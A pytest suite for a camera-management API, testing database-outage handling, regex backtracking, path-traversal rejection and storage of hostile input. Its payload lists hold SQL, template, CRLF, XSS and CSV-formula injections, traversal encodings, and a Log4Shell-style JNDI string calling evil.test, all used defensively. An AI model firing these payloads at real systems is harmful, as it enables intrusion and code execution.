"""A database that goes away, and texts made to hurt."""

import re
import time
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from databases import Server
from installation import API, Installation, furnish, installation
from vms.api import openapi, rest

DOCUMENT = openapi.document((one for ops in rest.EVERY for one in ops.declared), "0")
CUT = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{}'"
# Paths that were asked for must not lead out of the API, whatever they are made of.
TRICKS = (
    "%2e%2e",
    "..;",
    "%00",
    "%0d%0aX-Evil:1",
    "a%2fb",
    "%ff",
    "%252e%252e",
    "\u202e",
    "a" * 4000,
)
# Injected where texts are free.
HURTFUL = (
    "'; DROP TABLE users; --",
    '" OR ""="',
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "a\r\nSet-Cookie: evil=1",
    "\x1b[31mred",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A1",
)


@pytest.fixture
async def place(tmp_path: Path, database_address: str) -> AsyncIterator[Installation]:
    """An installation on PostgreSQL."""
    async with installation(tmp_path, database_address) as made:
        yield made


@pytest.mark.parametrize("database_address", ["postgresql"], indirect=True)
async def test_a_database_that_went_away_is_told_and_comes_back(
    place: Installation, postgres: Server, database_address: str
) -> None:
    name = database_address.partition("@/")[2].partition("?")[0]
    async with place.client as client:
        ana = await place.enter("ana", "gestor", "platform")
        assert (await client.get(f"{API}/users", headers=ana)).status_code == 200
        postgres.admin(f"ALTER DATABASE {name} ALLOW_CONNECTIONS false", CUT.format(name))
        place.clock.advance(2)
        for method, path, body in (
            ("GET", "users", None),
            ("POST", "auth/sign-in", {"login": "ana", "password": "x" * 12}),
            ("GET", "cameras", None),
        ):
            gone = await client.request(method, f"{API}/{path}", json=body, headers=ana)
            assert (gone.status_code, gone.json()["code"]) == (503, "database_unavailable")
            assert int(gone.headers["retry-after"]) >= 1
            assert name not in gone.text
        assert (await client.get("/health/live")).status_code == 200
        postgres.admin(f"ALTER DATABASE {name} ALLOW_CONNECTIONS true")
        answer = await _until(lambda: client.get(f"{API}/users", headers=ana), 200)
        assert answer.json()["items"]


async def _until(ask: Callable[[], Any], status: int) -> httpx.Response:
    deadline = time.monotonic() + 10
    while True:
        answer: httpx.Response = await ask()
        if answer.status_code == status:
            return answer
        assert time.monotonic() < deadline, answer.text


def patterns(node: object) -> Iterator[str]:
    if isinstance(node, dict):
        if isinstance(node.get("pattern"), str):
            yield node["pattern"]
        for part in node.values():
            yield from patterns(part)
    elif isinstance(node, list | tuple):
        for part in node:
            yield from patterns(part)


@pytest.mark.parametrize("pattern", sorted(set(patterns(DOCUMENT))))
def test_no_text_keeps_a_pattern_busy(pattern: str) -> None:
    read = re.compile(pattern)
    letters = ["a", "0", "_", ",", "-", "a,", "a_", "0a", "/", '"', ".", "a."]
    begun = time.process_time()
    for letter in letters:
        for end in ("", "!", "\n", "A"):
            read.search(letter * (20_000 // len(letter)) + end)
    assert time.process_time() - begun < 2


async def test_hurtful_texts_are_kept_as_texts_or_refused(tmp_path: Path, sqlite_url: str) -> None:
    async with installation(tmp_path, sqlite_url) as place, place.client as client:
        town = await furnish(place, client, "sp", "ours")
        for text in HURTFUL:
            for path, body in (
                ("cities/sp/sites", {"name": text, "address": text}),
                ("user-groups", {"name": text}),
                ("cameras", {"name": text, "maker": "generic", "url": "rtsp://192.0.2.1/a"}),
                ("invitations", {"role": "operador", "scope": "city:sp", "note": text}),
            ):
                made = await client.post(f"{API}/{path}", json=body, headers=town.manager)
                assert made.status_code in {201, 400}, (path, text, made.text)
                assert "evil" not in str(made.headers)
            for path, name in (("users", "text"), ("cameras", "name"), ("audit", "actor")):
                found = await client.get(f"{API}/{path}", params={name: text}, headers=town.manager)
                assert found.status_code in {200, 400}, (path, text, found.text)
                assert found.status_code == 400 or path == "cameras" or not found.json()["items"]
        table = await client.get(f"{API}/cameras/export.csv", headers=town.manager)
        assert "\n=cmd" not in table.text
        assert ",=cmd" not in table.text
        users = await client.get(f"{API}/users", headers=town.manager)
        assert len(users.json()["items"]) == 2


@pytest.fixture
def sqlite_url(tmp_path: Path, sqlite_template: Path) -> str:
    path = tmp_path / "vms.db"
    path.write_bytes(sqlite_template.read_bytes())
    return f"sqlite:///{path}"


async def test_no_path_leads_out_of_the_api(tmp_path: Path, sqlite_url: str) -> None:
    async with installation(tmp_path, sqlite_url) as place, place.client as client:
        ana = await place.enter("ana", "admin", "platform")
        for path, methods in DOCUMENT["paths"].items():
            if "{" not in path or not path.startswith(API):
                continue
            for trick in TRICKS:
                made = re.sub(r"\{[a-z]+\}", trick, path)
                for method in methods:
                    body = {} if method in {"post", "put", "patch"} else None
                    answer = await client.request(
                        method, made, json=body, headers={**ana, "If-Match": '"1"'}
                    )
                    assert answer.status_code in {400, 404, 405, 415}, (method, made, answer.text)
                    assert answer.headers["content-type"] == "application/problem+json"
                    assert "x-evil" not in answer.headers
